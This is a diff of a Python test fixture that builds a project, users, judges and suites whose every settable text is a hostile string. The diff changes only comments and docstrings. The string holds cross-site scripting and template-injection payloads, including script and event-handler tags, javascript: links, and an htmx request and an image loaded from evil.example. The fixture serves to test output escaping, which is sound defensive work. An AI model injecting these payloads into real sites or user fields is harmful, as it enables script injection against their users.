@@ -1,4 +1,4 @@
-"""A project with something behind every address, in which every text that anybody can set is hostile."""
+"""A project with a row behind every address, in which every text that anybody can set is hostile."""
 
 import json
 from datetime import UTC, datetime
@@ -38,7 +38,7 @@ from tests.qualification.quizzes import RIGHT, take
 from tests.red_team.attempts import rated
 from tests.rounds.loop import config
 
-# As HTML, as an attribute's end, as Markdown, as htmx.
+# As HTML, as the end of an attribute, as Markdown, and for htmx.
 HOSTILE = (
     "<script>boom()</script><img src=x onerror=boom()>\"'><svg onload=boom()><b hx-get=//evil.example hx-trigger=load>"
     "</b> [x](javascript:boom()) <a href=javascript:boom()>x</a> ![x](https://evil.example/p.png) {{ 7 * 7 }}"
@@ -48,12 +48,12 @@ TOKEN = "an-invitation-that-nobody-used"
 
 class World(NamedTuple):
     project: Project
-    labeler: User  # to whom all that belongs to labelers belongs
-    values: dict[str, object]  # of the parameters in addresses, by name
+    labeler: User  # the owner of all labelers' work
+    values: dict[str, object]  # values of the parameters in addresses, by name
 
 
 def build(session: Session, artifacts: Path) -> World:
-    """Adds the project and all it holds; commits."""
+    """Add the project with all its rows; commit."""
     labeler, admin = factories.user(session, name=HOSTILE), factories.user(session, "admin", name=HOSTILE)
     project = factories.project(session, name=HOSTILE, description=HOSTILE)
     rubric = factories.rubric(
@@ -176,7 +176,7 @@ def build(session: Session, artifacts: Path) -> World:
 
 
 def _models(session: Session, project: Project, artifacts: Path) -> int:
-    """The project's policy, whose folder is as hostile as its name."""
+    """Add the project's policy, whose folder is as hostile as its name."""
     folder = artifacts / "models" / "hostile"
     folder.mkdir(parents=True)
     (folder / "README.md").write_text(HOSTILE)
@@ -203,7 +203,7 @@ def _round(session: Session, project: Project) -> tuple[Any, Any]:
 def _judge(
     session: Session, project: Project, comparison: Any, operator: User, labeler: User
 ) -> tuple[Judge, JudgeJudgment]:
-    """A judge that is paused, has failed at one comparison, and whose last run failed."""
+    """Add a judge that is paused and failed at one comparison, and whose last run failed."""
     judge = Judge(
         **{"project_id": project.id, "name": HOSTILE[:100], "url": "http://127.0.0.1:9/v1", "model": HOSTILE[:200]},
         served_model=HOSTILE,
@@ -270,7 +270,7 @@ def _revised(session: Session, project: Project, judge: Judge, prompt: Any, mode
 
 
 def _suite(session: Session, project: Project, round_: Any, operator: User, artifacts: Path) -> Suite:
-    """A suite that a round has run, with a case that got worse."""
+    """Add a suite that a round has run, with a case that got worse."""
     store = ArtifactStore(artifacts)
     line = {"id": HOSTILE[:100], "prompt": HOSTILE, "slice": HOSTILE[:100], "check": "contains", "expected": HOSTILE}
     suite = suites.add(session, store, project, operator, HOSTILE[:100], [case_of(line, 1)])
